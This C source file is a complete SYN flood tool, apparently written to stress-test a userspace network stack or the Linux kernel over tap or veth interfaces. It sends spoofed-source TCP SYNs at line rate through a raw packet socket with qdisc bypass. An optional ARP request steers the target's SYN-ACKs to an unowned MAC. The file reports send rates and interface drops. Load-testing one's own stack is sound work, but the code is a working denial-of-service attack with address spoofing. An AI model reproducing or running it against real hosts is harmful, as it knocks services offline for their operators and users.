/* A SYN flood from one core: TCP SYNs from one (spoofed) source address,
 * each from another source port with another ISN, written to an interface
 * through an AF_PACKET socket with sendmmsg, as fast as the core goes, for
 * a bounded time or count. Prints what it sent, at what rate, and how many
 * frames the interface itself dropped (a tap or veth whose reader is behind).
 * No DPDK: it floods dpnet on net_tap and the Linux kernel behind a veth
 * alike.
 *
 *   synflood --iface IF --dst-mac MAC --dst IP --dport PORT --src IP
 *            [--src-mac MAC] [--announce] [--queue N] [--seconds S] [--count N]
 *
 * --seconds bounds the time, --count the number of frames the interface
 * took; at least one is needed. --src-mac is the frames' source MAC
 * (default: the interface's). With --announce, one ARP request "who has
 * DST, tell SRC at SRC-MAC" goes first: the target learns where the
 * spoofed address lives (a MAC nobody owns), so its SYN-ACKs leave on the
 * wire, as they would from a real server, instead of waiting for an ARP
 * answer that never comes.
 *
 * A device that is full refuses frames (ENOBUFS); by default the flooder
 * tries again at once, and so takes nearly every slot its reader frees: a
 * genuine client's frame finds the queue full and is lost before the
 * server sees it. No server can do anything about that; it measures the
 * device. With --queue N, the flood is as fast as the reader takes frames
 * instead: at most N of ours wait in the device (a tap counts a frame in
 * tx_packets when its reader takes it), the rest of the queue stays free for
 * other writers, and the reader never runs dry. That is what a veth gives
 * the kernel by construction (the sender's core runs the receiver's stack,
 * so the flood goes exactly as fast as the kernel takes it). */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME_LEN (14 + 20 + 24) /* Ethernet, IPv4, TCP with an MSS option */

struct opts {
    const char *iface;
    uint8_t dmac[6], smac[6];
    bool have_dmac, have_smac, announce;
    struct in_addr src, dst;
    uint16_t dport;
    double seconds;
    uint64_t count;
    uint64_t queue;
};

static void usage(const char *why) {
    fprintf(stderr,
            "synflood: %s\n"
            "usage: synflood --iface IF --dst-mac MAC --dst IP --dport PORT --src IP\n"
            "                [--src-mac MAC] [--announce] [--queue N] [--seconds S] [--count N]\n"
            "  (at least one of --seconds and --count bounds the flood)\n",
            why);
    exit(2);
}

static bool parse_mac(const char *s, uint8_t m[6]) {
    unsigned v[6];
    char end;
    if (sscanf(s, "%x:%x:%x:%x:%x:%x%c", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5], &end) != 6)
        return false;
    for (int i = 0; i < 6; i++) {
        if (v[i] > 0xff)
            return false;
        m[i] = (uint8_t)v[i];
    }
    return true;
}

static void parse(int argc, char **argv, struct opts *o) {
    static const struct option lo[] = {{"iface", required_argument, NULL, 'i'},
                                       {"dst-mac", required_argument, NULL, 'm'},
                                       {"src-mac", required_argument, NULL, 'M'},
                                       {"dst", required_argument, NULL, 'd'},
                                       {"src", required_argument, NULL, 's'},
                                       {"dport", required_argument, NULL, 'p'},
                                       {"seconds", required_argument, NULL, 't'},
                                       {"count", required_argument, NULL, 'n'},
                                       {"announce", no_argument, NULL, 'a'},
                                       {"queue", required_argument, NULL, 'q'},
                                       {NULL, 0, NULL, 0}};
    bool have_src = false, have_dst = false;
    char *end;
    int c;
    while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
        switch (c) {
        case 'i':
            o->iface = optarg;
            break;
        case 'm':
            if (!(o->have_dmac = parse_mac(optarg, o->dmac)))
                usage("--dst-mac: not a MAC address (aa:bb:cc:dd:ee:ff)");
            break;
        case 'M':
            if (!(o->have_smac = parse_mac(optarg, o->smac)))
                usage("--src-mac: not a MAC address (aa:bb:cc:dd:ee:ff)");
            break;
        case 'd':
            if (!(have_dst = inet_pton(AF_INET, optarg, &o->dst) == 1))
                usage("--dst: not an IPv4 address");
            break;
        case 's':
            if (!(have_src = inet_pton(AF_INET, optarg, &o->src) == 1))
                usage("--src: not an IPv4 address");
            break;
        case 'p': {
            unsigned long p = strtoul(optarg, &end, 10);
            if (*end != '\0' || p == 0 || p > 65535)
                usage("--dport: a port from 1 to 65535");
            o->dport = (uint16_t)p;
            break;
        }
        case 't':
            o->seconds = strtod(optarg, &end);
            if (*end != '\0' || !(o->seconds > 0 && o->seconds <= 3600))
                usage("--seconds: a duration from 0 to 3600 s");
            break;
        case 'n':
            o->count = strtoull(optarg, &end, 10);
            if (*end != '\0' || o->count == 0)
                usage("--count: a positive number of SYNs");
            break;
        case 'a':
            o->announce = true;
            break;
        case 'q':
            o->queue = strtoull(optarg, &end, 10);
            if (*end != '\0' || o->queue == 0 || o->queue > 1000000)
                usage("--queue: 1 to 1000000 frames");
            break;
        default:
            usage("unknown option");
        }
    }
    if (optind != argc)
        usage("unexpected argument");
    if (o->iface == NULL || !o->have_dmac || !have_src || !have_dst || o->dport == 0)
        usage("--iface, --dst-mac, --dst, --dport and --src are required");
    if (o->seconds == 0 && o->count == 0)
        usage("unbounded: give --seconds or --count");
}

static uint32_t sum16(const void *p, size_t n, uint32_t s) {
    const uint8_t *b = p;
    for (size_t i = 0; i + 1 < n; i += 2)
        s += (uint32_t)(b[i] << 8 | b[i + 1]);
    if (n & 1)
        s += (uint32_t)(b[n - 1] << 8);
    return s;
}

static uint16_t fold(uint32_t s) {
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}

static void put16(uint8_t *p, uint16_t v) {
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v) {
    put16(p, (uint16_t)(v >> 16));
    put16(p + 2, (uint16_t)v);
}

/* The frame every SYN starts from: addresses, IPv4 header with its
 * checksum (it never changes), TCP SYN with MSS 1460. */
static void build_template(const struct opts *o, uint8_t f[FRAME_LEN]) {
    memset(f, 0, FRAME_LEN);
    memcpy(f, o->dmac, 6);
    memcpy(f + 6, o->smac, 6);
    put16(f + 12, ETHERTYPE_IP);
    uint8_t *ip = f + 14, *t = ip + 20;
    ip[0] = 0x45;
    put16(ip + 2, 20 + 24);
    put16(ip + 6, 0x4000); /* DF */
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    memcpy(ip + 12, &o->src, 4);
    memcpy(ip + 16, &o->dst, 4);
    put16(ip + 10, fold(sum16(ip, 20, 0)));
    put16(t + 2, o->dport);
    t[12] = 6 << 4;
    t[13] = 0x02; /* SYN */
    put16(t + 14, 64240);
    t[20] = 2; /* MSS 1460 */
    t[21] = 4;
    put16(t + 22, 1460);
}

/* Pseudo header + the TCP header's constant words (everything but the
 * source port, the sequence number and the checksum). */
static uint32_t base_sum(const uint8_t f[FRAME_LEN]) {
    const uint8_t *ip = f + 14, *t = ip + 20;
    uint32_t s = sum16(ip + 12, 8, 0) + IPPROTO_TCP + 24;
    s = sum16(t + 2, 2, s);     /* destination port */
    s = sum16(t + 8, 10, s);    /* ack, offset+flags, window, (checksum 0) */
    return sum16(t + 18, 6, s); /* urgent pointer, MSS option */
}

static void set_syn(uint8_t *f, uint32_t base, uint16_t sport, uint32_t isn) {
    uint8_t *t = f + 14 + 20;
    put16(t, sport);
    put32(t + 4, isn);
    put16(t + 16, fold(base + sport + (isn >> 16) + (isn & 0xffff)));
}

static int send_arp(int fd, const struct opts *o) {
    uint8_t a[42] = {0};
    memset(a, 0xff, 6);
    memcpy(a + 6, o->smac, 6);
    put16(a + 12, ETHERTYPE_ARP);
    put16(a + 14, 1); /* Ethernet */
    put16(a + 16, ETHERTYPE_IP);
    a[18] = 6;
    a[19] = 4;
    put16(a + 20, 1); /* request */
    memcpy(a + 22, o->smac, 6);
    memcpy(a + 28, &o->src, 4);
    memcpy(a + 38, &o->dst, 4);
    return send(fd, a, sizeof a, 0) == (ssize_t)sizeof a ? 0 : -1;
}

/* A counter of /sys/class/net/IF/, kept open: pread at 0 reads it anew. */
static int stat_open(const char *iface, const char *name) {
    char path[160];
    snprintf(path, sizeof path, "/sys/class/net/%s/%s", iface, name);
    return open(path, O_RDONLY);
}

static uint64_t stat_read(int fd) {
    char b[32];
    ssize_t n = fd < 0 ? -1 : pread(fd, b, sizeof b - 1, 0);
    if (n <= 0)
        return 0;
    b[n] = '\0';
    return strtoull(b, NULL, 10);
}

static double now_s(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec * 1e-9;
}

static int open_socket(struct opts *o) {
    int fd = socket(AF_PACKET, SOCK_RAW, 0); /* send only: no protocol, nothing received */
    if (fd < 0) {
        perror("synflood: AF_PACKET socket (needs CAP_NET_RAW)");
        exit(1);
    }
    struct ifreq ifr = {0};
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", o->iface);
    if (ioctl(fd, SIOCGIFINDEX, &ifr) != 0) {
        fprintf(stderr, "synflood: interface %s: %s\n", o->iface, strerror(errno));
        exit(1);
    }
    struct sockaddr_ll sll = {
        .sll_family = AF_PACKET, .sll_ifindex = ifr.ifr_ifindex, .sll_protocol = 0};
    if (bind(fd, (struct sockaddr *)&sll, sizeof sll) != 0) {
        fprintf(stderr, "synflood: bind to %s: %s\n", o->iface, strerror(errno));
        exit(1);
    }
    if (!o->have_smac) {
        if (ioctl(fd, SIOCGIFHWADDR, &ifr) != 0) {
            fprintf(stderr, "synflood: MAC of %s: %s\n", o->iface, strerror(errno));
            exit(1);
        }
        memcpy(o->smac, ifr.ifr_hwaddr.sa_data, 6);
    }
    int one = 1; /* straight to the driver: the qdisc would only add cost */
    if (setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one) != 0)
        fprintf(stderr, "synflood: PACKET_QDISC_BYPASS: %s (going through the qdisc)\n",
                strerror(errno));
    return fd;
}

int main(int argc, char **argv) {
    struct opts o = {0};
    parse(argc, argv, &o);
    int fd = open_socket(&o);
    if (o.announce && send_arp(fd, &o) != 0) {
        fprintf(stderr, "synflood: ARP announcement on %s: %s\n", o.iface, strerror(errno));
        return 1;
    }

    static uint8_t frames[BATCH][FRAME_LEN];
    struct iovec iov[BATCH];
    struct mmsghdr msg[BATCH];
    build_template(&o, frames[0]);
    uint32_t base = base_sum(frames[0]);
    for (int i = 0; i < BATCH; i++) {
        memcpy(frames[i], frames[0], FRAME_LEN);
        iov[i] = (struct iovec){.iov_base = frames[i], .iov_len = FRAME_LEN};
        msg[i] = (struct mmsghdr){.msg_hdr = {.msg_iov = &iov[i], .msg_iovlen = 1}};
    }

    uint32_t x = (uint32_t)time(NULL) * 2654435761u | 1u; /* xorshift32 state for the ISNs */
    uint16_t sport = 1024;
    int drop_fd = stat_open(o.iface, "statistics/tx_dropped");
    int taken_fd = stat_open(o.iface, "statistics/tx_packets");
    int qlen_fd = stat_open(o.iface, "tx_queue_len");
    uint64_t qlen = stat_read(qlen_fd), drop0 = stat_read(drop_fd), taken0 = stat_read(taken_fd);
    uint64_t sent = 0, errors = 0, waits = 0;
    int64_t unseen = 0; /* other writers' frames the reader took (resynced when full) */
    int last_errno = 0;
    double t0 = now_s(), deadline = o.seconds > 0 ? t0 + o.seconds : 1e300, t = t0;
    char dst[INET_ADDRSTRLEN], src[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &o.dst, dst, sizeof dst);
    inet_ntop(AF_INET, &o.src, src, sizeof src);
    printf("synflood: flooding %s port %u from %s on %s\n", dst, o.dport, src, o.iface);
    fflush(stdout);
    while (t < deadline && (o.count == 0 || sent < o.count)) {
        unsigned n = BATCH;
        if (o.count != 0 && o.count - sent < n)
            n = (unsigned)(o.count - sent);
        int64_t queued = 0;
        if (o.queue > 0) { /* ours still waiting in the device */
            queued = (int64_t)(sent - (stat_read(taken_fd) - taken0)) + unseen;
            if (queued < 0) { /* the reader took others' frames: none of ours wait */
                unseen -= queued;
                queued = 0;
            }
            if (queued >= (int64_t)o.queue) { /* as a spinning sender would, minus the waste */
                sched_yield();
                waits++;
                t = now_s();
                continue;
            }
            if ((uint64_t)queued + n > o.queue)
                n = (unsigned)(o.queue - (uint64_t)queued);
        }
        for (unsigned i = 0; i < n; i++) {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            set_syn(frames[i], base, sport, x);
            sport = sport == 65535 ? 1024 : sport + 1;
        }
        int r = sendmmsg(fd, msg, n, 0);
        if (r > 0)
            sent += (unsigned)r;
        if (r < (int)n) { /* the device is full (ENOBUFS): the frame is dropped, go on */
            errors++;
            last_errno = r < 0 ? errno : ENOBUFS;
            /* Full means qlen frames wait: the others' we did not count. */
            if (o.queue > 0 && qlen > 0)
                unseen += (int64_t)qlen - (queued + (r > 0 ? r : 0));
        }
        t = now_s();
    }
    double dt = t - t0;
    /* A frame the device refused is dropped and counted there (sendmmsg
     * reports only the first failure of a batch): offered = taken + dropped. */
    uint64_t dropped = stat_read(drop_fd) - drop0, offered = sent + dropped;
    printf("synflood: offered %llu SYNs in %.2f s (%.0f/s); %s took %llu (%.0f/s) and dropped "
           "%llu; send errors %llu%s%s",
           (unsigned long long)offered, dt, dt > 0 ? (double)offered / dt : 0.0, o.iface,
           (unsigned long long)sent, dt > 0 ? (double)sent / dt : 0.0, (unsigned long long)dropped,
           (unsigned long long)errors, last_errno ? ", last: " : "",
           last_errno ? strerror(last_errno) : "");
    if (o.queue > 0)
        printf("; paced: at most %llu of %llu queued (%llu waits)", (unsigned long long)o.queue,
               (unsigned long long)qlen, (unsigned long long)waits);
    printf("\n");
    close(drop_fd);
    close(taken_fd);
    close(qlen_fd);
    close(fd);
    return sent > 0 ? 0 : 1;
}
